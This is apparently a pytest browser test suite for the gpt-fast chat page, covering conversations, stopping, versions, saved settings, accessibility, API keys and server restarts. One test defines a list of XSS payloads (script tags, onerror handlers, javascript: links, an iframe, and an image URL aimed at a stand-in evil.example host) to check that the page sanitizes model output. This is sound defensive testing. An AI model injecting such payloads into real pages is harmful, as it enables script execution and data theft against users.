"""The chat page in headless Chromium, on real servers with the real model, at both doors: what a reader does with it.

Set GPT_FAST_SCREENSHOTS to a folder to keep pictures of it. What it makes of a text: test_page_rendering.py.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gpt_fast.llm import Engine
from gpt_fast.serve.asgi.guard import Rules
from gpt_fast.serve.page.relay import PageServer
from gpt_fast.text.chat import ChatTemplate
from support.asgi_server import AsgiServer
from support.browser import NEEDS_CHROMIUM
from support.paths import ROOT
from support.server import Server, free_ports, new_server, shared_server
from support.tiny_engine import tiny_engine
from support.waiting import wait_until

pytestmark = [pytest.mark.server, pytest.mark.model, *NEEDS_CHROMIUM]

MODEL = ROOT / "checkpoints/HuggingFaceTB/SmolLM2-135M-Instruct/model_int4.g32.safetensors"
STORY = "Write a very long story about the sea."
TEMPLATE = (
    "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}"
    "{% if add_generation_prompt %}<|im_start|>assistant\n<think>\n{% endif %}{% if false %}</think>{% endif %}"
)


class AsgiDoor:
    """`gpt-fast serve` as a process of its own, which can be killed and started again at its address."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        (self.port,) = free_ports(1)
        self.process: subprocess.Popen[bytes] | None = None

    @property
    def page(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def start(self) -> None:
        command = [sys.executable, "-m", "gpt_fast.serve", "--port", str(self.port), "--checkpoint_path", str(MODEL)]
        command += ["--max_num_seqs", "4", "--max_seq_len", "2048"]
        with open(self.folder / "log", "ab") as log:
            self.process = subprocess.Popen(
                command, cwd=self.folder, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=log, stderr=log
            )
        wait_until(self.ready)

    def ready(self) -> bool:
        assert self.process is not None and self.process.poll() is None, (self.folder / "log").read_text()
        try:
            return bool(urllib.request.urlopen(f"{self.page}health", timeout=5).status == 200)
        except OSError:
            return False

    def running(self) -> float:
        text = urllib.request.urlopen(f"{self.page}metrics", timeout=5).read().decode()
        return float(re.search(r"^gpt_fast_num_requests_running\S* (\S+)$", text, re.M)[1])

    def kill(self) -> None:
        assert self.process is not None
        self.process.kill()
        self.process.wait()


class TorchServeDoor:
    def __init__(self, server: Server) -> None:
        self.server = server

    @property
    def page(self) -> str:
        return f"{self.server.url}/1.0/chat"

    def running(self) -> float:
        return self.server.metrics()["num_requests_running"]


@pytest.fixture(scope="module")
def asgi(tmp_path_factory) -> Iterator[AsgiDoor]:
    door = AsgiDoor(tmp_path_factory.mktemp("asgi"))
    door.start()
    yield door
    door.kill()


@pytest.fixture(params=["asgi", "torchserve"])
def door(request) -> Any:
    return request.getfixturevalue("asgi") if request.param == "asgi" else TorchServeDoor(shared_server())


# ------------------------------------------------------------------------------------------- as a reader


def settle(page: Any, **values: object) -> None:
    """Set settings, as typing would. Greedy and short unless said."""
    for name, value in ({"temperature": 0, "max_tokens": 24} | values).items():
        page.evaluate(
            """([name, value]) => {
              const field = document.getElementById("settings").elements[name];
              field.value = value;
              field.dispatchEvent(new Event("input", { bubbles: true }));
            }""",
            [name, str(value)],
        )


def open_page(tabs: Any, url: str, **options: Any) -> Any:
    page = tabs.open(url, **options)
    page.wait_for_selector("#status[data-state]", state="attached")
    settle(page)
    return page


def ask(page: Any, text: str, *, answered: bool = True) -> None:
    page.click("#input")
    page.keyboard.type(text)
    page.keyboard.press("Enter")
    page.wait_for_selector(".user")
    if answered:
        finished(page)


def finished(page: Any) -> None:
    page.wait_for_selector("#send:text-is('Send')", timeout=60_000)
    page.wait_for_selector(".assistant[aria-busy=false] .actions button:visible", timeout=10_000)


def say(page: Any, text: str) -> None:
    """Make the model say exactly this."""
    settle(page, max_tokens=1000, fields=json.dumps({"structured_outputs": {"choice": [text]}}))
    ask(page, "Say it.")
    settle(page, fields="")


def asked(page: Any, act: Any) -> dict[str, Any]:
    """The body of the request that `act` makes the page send."""
    with page.expect_request("**/v1/chat/completions") as caught:
        act()
    finished(page)
    return caught.value.post_data_json


def shown(page: Any) -> list[str]:
    return [text.strip() for text in page.locator(".message > .text").all_inner_texts()]


def test_a_conversation_by_keyboard_alone_outlives_a_reload(door, tabs):
    page = open_page(tabs, door.page)
    tabs.picture(page, "empty")
    page.keyboard.type("What is the capital of France?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".assistant .figures:not(:empty)", timeout=30_000)
    finished(page)
    assert page.inner_text(".assistant > .text").strip()
    figures = page.inner_text(".assistant .figures")
    assert re.fullmatch(r"gpt-fast · first token \d+ ms · [\d.]+ tokens/s · \d+ tokens", figures)
    assert page.inner_text("#status") == "gpt-fast"
    page.keyboard.type("And of Italy?")  # the focus never left the message
    page.keyboard.press("Enter")
    page.wait_for_selector(".assistant >> nth=1", timeout=30_000)
    finished(page)
    before = shown(page)
    assert len(before) == 4
    tabs.picture(page, "conversation")
    page.reload()
    page.wait_for_selector(".assistant >> nth=1")
    assert shown(page) == before and page.inner_text(".assistant .figures >> nth=0") == figures
    tabs.picture(page, "reloaded")
    assert page.inner_text("#conversations [aria-current]") == "What is the capital of France?"
    page.keyboard.press("Shift+Tab")  # backwards through the page: the messages' controls come before the message
    assert page.evaluate("document.activeElement.textContent") == "Regenerate"


def test_stop_frees_the_slot_and_keeps_what_was_said(door, tabs):
    page = open_page(tabs, door.page)
    settle(page, max_tokens="")
    ask(page, STORY, answered=False)
    page.wait_for_selector(".assistant > .text p", timeout=30_000)
    wait_until(lambda: door.running() == 1)
    assert page.inner_text("#send") == "Stop" and page.locator(".assistant[aria-busy=true]").count() == 1
    tabs.picture(page, "running")
    page.keyboard.press("Escape")
    finished(page)
    wait_until(lambda: door.running() == 0)
    assert page.inner_text(".note") == "Stopped." and page.locator(".error").count() == 0
    assert page.evaluate("document.activeElement.id") == "input"
    before = shown(page)
    tabs.picture(page, "stopped")
    page.reload()
    page.wait_for_selector(".assistant > .text p")
    assert shown(page) == before and page.inner_text(".note") == "Stopped."


HOSTILE = "\n\n".join([
    "<script>document.title = 'hit'</script> <img src=x onerror=\"document.title='hit'\">",
    "[link](javascript:document.title='hit') <a href=\"javascript:document.title='hit'\">link</a>",
    "![image](http://evil.example/steal?secret) $\\href{javascript:document.title='hit'}{math}$",
    "<iframe src=\"http://evil.example/\"></iframe><style>body { display: none }</style>",
])  # fmt: skip


def test_what_a_hostile_model_says_does_nothing(door, tabs):
    page = open_page(tabs, door.page)
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    say(page, HOSTILE)
    for link in page.locator(".assistant > .text a:not([href])").all():
        link.click()
    page.wait_for_timeout(200)
    assert page.title() == "gpt-fast chat" and page.is_visible("#input")
    assert page.locator(".assistant > .text :is(script, img, iframe, style)").count() == 0
    links = [link.get_attribute("href") for link in page.locator(".assistant > .text a").all()]
    assert "http://evil.example/steal?secret" in links  # the picture, to be clicked on or not
    assert all(link is None or link.startswith("http://evil.example/") for link in links)
    text = page.inner_text(".assistant > .text")
    assert "<script>document.title = 'hit'</script>" in text and "<iframe src=" in text  # said, not done
    tabs.picture(page, "hostile")


ANSWER = """## The roots

The *quadratic* formula for $ax^2 + bx + c = 0$:

$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

| case | roots |
|------|------:|
| $b^2 > 4ac$ | 2 |
| `else` | 0 or 1 |

```python
def roots(a, b, c):  # all real ones
    d = b * b - 4 * a * c
    return [] if d < 0 else [(-b + s * d**0.5) / (2 * a) for s in (1, -1)]
```

1. Read the [reference](https://example.org/).
2. > Try it."""
CONTRAST = """() => {
  const parse = (color) => (color.match(/[\\d.]+/g) ?? []).map(Number);
  const light = ([r, g, b]) => {
    const [R, G, B] = [r, g, b].map((v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * R + 0.7152 * G + 0.0722 * B;
  };
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const [r, g, b, a = 1] = parse(getComputedStyle(at).backgroundColor);
      if (a === 1) return [r, g, b];
    }
    return [255, 255, 255];
  };
  const low = [];
  for (const node of document.querySelectorAll("body *")) {
    const says = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
    if (!says || !node.checkVisibility({ visibilityProperty: true })) continue;
    const [a, b] = [light(parse(getComputedStyle(node).color)), light(behind(node))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) low.push(`${node.className} "${node.textContent.slice(0, 20)}" ${ratio.toFixed(2)}`);
  }
  return low;
}"""


def test_an_answer_fits_every_screen_and_can_be_read(asgi, tabs):
    page = open_page(tabs, asgi.page)
    say(page, ANSWER)
    assert page.locator(".assistant math").count() == 3 and page.locator(".assistant .hljs-keyword").count() > 2
    settle(page, top_p=5)
    ask(page, "Averyveryverylongwordthatdoesnotfitonaline" * 4)
    page.wait_for_selector(".error")
    for width in (360, 1200):
        page.set_viewport_size({"width": width, "height": 800})
        for colors in ("light", "dark"):
            page.emulate_media(color_scheme=colors)
            look_around(
                page, width, lambda name, colors=colors, width=width: tabs.picture(page, f"{width}-{colors}{name}")
            )


def look_around(page: Any, width: int, picture: Any) -> None:
    """The end of a conversation, its beginning, the settings and the list of conversations."""
    page.evaluate("() => { document.getElementById('scroller').scrollTop = 1e6; }")
    page.wait_for_selector("#latest", state="hidden")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.evaluate("(s => s.scrollWidth - s.clientWidth)(document.getElementById('scroller'))") <= 0
    picture("-error")
    assert page.evaluate(CONTRAST) == []
    page.evaluate("() => { document.getElementById('scroller').scrollTop = 0; }")
    page.wait_for_selector("#latest:visible")
    for selector in ("#send", "#input", "#show-settings", "#latest"):
        box = page.locator(selector).bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= width and box["y"] + box["height"] <= 800, selector
    picture("")
    assert page.evaluate(CONTRAST) == []
    page.click("#show-settings")
    picture("-settings")
    assert page.evaluate(CONTRAST) == []
    page.click("#show-settings")
    if width < 800:
        page.click("#show-history")
        assert page.is_visible("#conversations a")
        picture("-chats")
        page.click("#show-history")
    assert page.is_visible("#conversations a") == (width >= 800)


def test_screen_readers_are_told_what_is_what(asgi, tabs):
    page = open_page(tabs, asgi.page)
    ask(page, "Hello")
    log = page.get_by_role("log", name="Messages")
    assert log.get_attribute("aria-live") == "polite"
    assert log.get_by_role("article", name="You").count() == log.get_by_role("article", name="Answer").count() == 1
    assert page.get_by_role("status").first.inner_text() == "gpt-fast"
    assert page.get_by_role("navigation", name="Conversations").get_by_role("link", name="Hello").count() == 1
    unnamed = page.evaluate(
        """() => [...document.querySelectorAll("button, input, textarea, a")]
          .filter((node) => !(node.ariaLabel || node.textContent.trim() || node.labels?.length))
          .map((node) => node.outerHTML)"""
    )
    assert unnamed == []


# ------------------------------------------------------------------------------------------- versions


def test_edits_and_regenerated_answers_are_versions_to_go_through(asgi, tabs):
    page = open_page(tabs, asgi.page)
    ask(page, "What is the capital of France?")
    first = shown(page)[1]
    settle(page, temperature=1, seed=7)
    body = asked(page, lambda: page.click(".assistant button:text-is('Regenerate')"))
    assert body["messages"] == [{"role": "user", "content": "What is the capital of France?"}]
    assert page.inner_text(".assistant .versions") == "‹2/2"
    second = shown(page)[1]
    ask(page, "Why?")
    assert len(shown(page)) == 4
    page.click(".assistant [aria-label='Earlier version'] >> nth=0")
    assert shown(page)[1:] == [first]  # what followed the other answer went with it
    page.click(".assistant [aria-label='Later version']")
    assert shown(page)[1] == second and shown(page)[2] == "Why?"
    page.click(".user [aria-label='Edit message'] >> nth=0")
    tabs.picture(page, "editing")
    page.keyboard.press("Escape")
    assert len(shown(page)) == 4
    page.click(".user [aria-label='Edit message'] >> nth=0")
    page.fill(".edit textarea", "What is the capital of Italy?")
    body = asked(page, lambda: page.keyboard.press("Enter"))
    assert body["messages"] == [{"role": "user", "content": "What is the capital of Italy?"}]
    assert page.inner_text(".user .versions") == "‹2/2" and len(shown(page)) == 2
    tabs.picture(page, "versions")
    page.reload()
    page.click(".user [aria-label='Earlier version']")
    assert shown(page)[:3] == ["What is the capital of France?", second, "Why?"]


def test_another_conversation_can_begin_while_an_answer_runs(asgi, tabs):
    page = open_page(tabs, asgi.page)
    settle(page, max_tokens="")
    ask(page, STORY, answered=False)
    page.wait_for_selector(".assistant > .text p", timeout=30_000)
    page.click("#new")
    wait_until(lambda: asgi.running() == 0)
    settle(page)
    body = asked(page, lambda: ask(page, "Hello", answered=False))
    assert body["messages"] == [{"role": "user", "content": "Hello"}] and len(shown(page)) == 2
    page.click(f"#conversations a:text-is('{STORY}')")
    page.wait_for_selector(f".user :text-is('{STORY}')")
    assert page.inner_text(".note") == "Stopped." and len(shown(page)[1]) > 0
    settle(page, max_tokens="")
    page.click("button:text-is('Regenerate')")
    wait_until(lambda: asgi.running() == 1)
    page.on("dialog", lambda dialog: dialog.accept())
    page.click(f"[aria-label='Delete {STORY}']")
    wait_until(lambda: asgi.running() == 0)
    page.wait_for_timeout(100)
    page.reload()
    page.wait_for_selector("#conversations a:text-is('Hello')")
    assert page.locator("#conversations a").count() == 1  # the answer that was still ending did not bring it back


# ------------------------------------------------------------------------------------------- what is kept


def test_settings_reach_the_server_and_are_kept_but_for_the_key(asgi, tabs):
    page = open_page(tabs, asgi.page)
    settle(page, system="You are a pirate.", max_tokens=7, seed=3, fields='{"stop": ["zzz"]}', token="sk-secret")
    body = asked(page, lambda: ask(page, "Hello <b>you</b>", answered=False))
    assert body["messages"][0] == {"role": "system", "content": "You are a pirate."}
    assert (body["temperature"], body["max_tokens"], body["seed"], body["stop"]) == (0, 7, 3, ["zzz"])
    assert shown(page)[0] == "Hello <b>you</b>"  # text, never markup
    assert page.inner_text(".note") == "Max tokens reached." and "7 tokens" in page.inner_text(".figures")
    page.reload()
    kept = page.evaluate("Object.fromEntries(new FormData(document.getElementById('settings')))")
    assert (kept["system"], kept["max_tokens"], kept["token"]) == ("You are a pirate.", "7", "sk-secret")
    other = open_page(tabs, asgi.page, context=page.context)  # another tab
    assert "secret" not in json.dumps(other.evaluate("({...localStorage})"))
    assert other.input_value("[name=token]") == "" and other.input_value("[name=system]") == "You are a pirate."


def test_conversations_leave_as_a_file_and_come_back(asgi, tabs, tmp_path):
    page = open_page(tabs, asgi.page)
    ask(page, "Hello")
    before = shown(page)
    with page.expect_download() as download:
        page.click("#export")
    download.value.save_as(tmp_path / "c.json")
    page.on("dialog", lambda dialog: dialog.accept())
    page.click("#conversations button")
    page.wait_for_selector("#conversations li", state="detached")
    assert page.locator(".message").count() == 0
    page.set_input_files("#file", tmp_path / "c.json")
    page.click("#conversations a")
    page.wait_for_selector(".assistant > .text")
    assert shown(page) == before and page.inner_text("#told") == "1 imported"
    (tmp_path / "bad.json").write_text("[]")
    page.set_input_files("#file", tmp_path / "bad.json")
    page.wait_for_selector("#told:text('not exported by this page')")
    tabs.picture(page, "imported")


def test_the_view_stays_where_the_reader_put_it(asgi, tabs):
    page = open_page(tabs, asgi.page, height=400)
    settle(page, max_tokens="", fields='{"ignore_eos": true}')
    ask(page, STORY, answered=False)
    view = "(s => [s.scrollTop, s.scrollHeight - s.clientHeight])(document.getElementById('scroller'))"
    wait_until(lambda: page.evaluate(view)[1] > 200)
    page.wait_for_timeout(50)
    top, most = page.evaluate(view)
    assert most - top < 48  # it follows
    page.mouse.move(600, 150)
    page.mouse.wheel(0, -120)
    page.wait_for_selector("#latest:visible")
    page.wait_for_timeout(100)  # the wheel scrolls smoothly
    top, most = page.evaluate(view)
    wait_until(lambda: page.evaluate(view)[1] > most + 60)
    assert page.evaluate(view)[0] == top
    tabs.picture(page, "scrolled")
    page.click("#latest")
    page.wait_for_selector("#latest", state="hidden")
    page.keyboard.press("Escape")
    finished(page)
    top, most = page.evaluate(view)
    assert most - top < 2


# ------------------------------------------------------------------------------------------- what goes wrong


def test_a_refusal_is_shown_and_the_question_can_be_asked_again(asgi, tabs):
    page = open_page(tabs, asgi.page)
    settle(page, top_p=5)
    ask(page, "Hello")
    assert "top_p" in page.inner_text(".error")
    settle(page, top_p=0.9, fields="{")
    page.click("button:text-is('Regenerate')")
    page.wait_for_selector(".error:text('Further fields')")
    settle(page, fields="")
    body = asked(page, lambda: page.click("button:text-is('Regenerate')"))
    assert body["messages"] == [{"role": "user", "content": "Hello"}]
    assert page.locator(".error").count() == 0 and page.locator(".versions").count() == 0
    settle(page, top_p=5)
    ask(page, "Refused")
    settle(page, top_p=0.9)
    body = asked(page, lambda: ask(page, "Another", answered=False))  # in its place: no two questions in a row
    assert [m["role"] for m in body["messages"]] == ["user", "assistant", "user"]
    assert body["messages"][-1]["content"] == "Another"


def test_the_server_goes_and_comes_back(tabs, tmp_path):
    door = AsgiDoor(tmp_path)
    door.start()
    try:
        page = open_page(tabs, door.page)
        settle(page, max_tokens="", fields='{"ignore_eos": true}')
        ask(page, STORY, answered=False)
        wait_until(lambda: len(shown(page)) == 2 and len(shown(page)[1]) > 100)
        door.kill()
        finished(page)
        assert page.inner_text(".error") == "The connection ended before the answer did"
        assert len(shown(page)[1]) > 100  # what had come stays
        page.wait_for_selector("#status[data-state=gone]")
        tabs.picture(page, "gone")
        settle(page)
        ask(page, "Are you there?")
        assert page.locator(".error >> nth=1").inner_text() == "The server does not answer"
        door.start()
        page.wait_for_selector("#status[data-state=here]", timeout=20_000)
        assert page.inner_text("#status") == "gpt-fast"
        page.click("button:text-is('Regenerate') >> nth=1")
        finished(page)
        assert page.locator(".error").count() == 1 and shown(page)[3]
        tabs.picture(page, "back")
    finally:
        door.kill()


@pytest.mark.nightly
def test_torchserve_dies_and_its_watch_brings_it_back(tabs):
    server = new_server()
    try:
        server.start()
        page = open_page(tabs, f"{server.url}/1.0/chat")
        settle(page, max_tokens="", fields='{"ignore_eos": true}')
        ask(page, STORY, answered=False)
        wait_until(lambda: len(shown(page)) == 2 and len(shown(page)[1]) > 100)
        server.instance.frontend().kill()
        finished(page)
        assert page.inner_text(".error") == "The connection ended before the answer did"
        page.wait_for_selector("#status[data-state=gone]")
        page.wait_for_selector("#status[data-state=here]", timeout=120_000)
        settle(page)
        page.click("button:text-is('Regenerate')")
        finished(page)
        assert page.locator(".error").count() == 0 and page.inner_text(".versions") == "‹2/2"
        tabs.picture(page, "torchserve-back")
    finally:
        server.stop()


@pytest.fixture
def thinking() -> Iterator[AsgiServer]:
    """The real model behind a template that has it think first; it never ends its thoughts."""
    engine = Engine.load(str(MODEL), max_num_seqs=2, max_seq_len=512)
    engine.chat_template = ChatTemplate(TEMPLATE)
    with AsgiServer(engine) as server:
        yield server


def test_thoughts_are_folded(thinking, tabs):
    page = open_page(tabs, f"{thinking.url}/chat")
    settle(page, max_tokens=15, fields='{"ignore_eos": true}')
    ask(page, "Hello")
    assert page.is_visible(".thinking summary") and not page.is_visible(".thinking .text")
    assert re.fullmatch(r"Thought for \d+\.\d s", page.inner_text(".thinking summary"))
    page.click(".thinking summary")
    assert page.is_visible(".thinking .text") and page.inner_text(".note") == "Max tokens reached."
    tabs.picture(page, "thinking")


# ------------------------------------------------------------------------------------------- keys


def test_a_server_with_a_key_asks_for_it(tabs):
    engine = tiny_engine(slots=2)
    engine.chat_template = ChatTemplate(TEMPLATE)
    with AsgiServer(engine, rules=Rules(keys=("sk-0123456789",))) as server:
        page = tabs.open(f"{server.url}/chat")
        page.wait_for_selector("#status[data-state=refuses]")
        assert page.is_visible("[name=token]")
        tabs.picture(page, "key-missing")
        page.fill("[name=token]", "sk-0123456789")
        page.keyboard.press("Tab")
        page.wait_for_selector("#status[data-state=here]")
        settle(page, max_tokens=5)
        ask(page, "Hello")
        assert page.locator(".error").count() == 0


def test_torchserve_with_the_token_on(tabs):
    server = new_server()
    try:
        server.start(token="on")
        pages = PageServer(server.origin, port=0)
        threading.Thread(target=pages.serve_forever, daemon=True).start()
        page = open_page(tabs, f"http://127.0.0.1:{pages.server_port}/chat")
        page.wait_for_selector("#status[data-state=refuses]")
        ask(page, "What is the capital of France?")
        assert "token" in page.inner_text(".error").lower()
        tabs.picture(page, "token-missing")
        page.fill("[name=token]", server.instance.token("inference") or "")
        page.click("button:text-is('Regenerate')")
        finished(page)
        assert shown(page)[1] and page.locator(".error").count() == 0
        assert server.call({"prompt": "x"}).status == 400  # without the token nobody gets anything
        pages.shutdown()
    finally:
        server.stop()
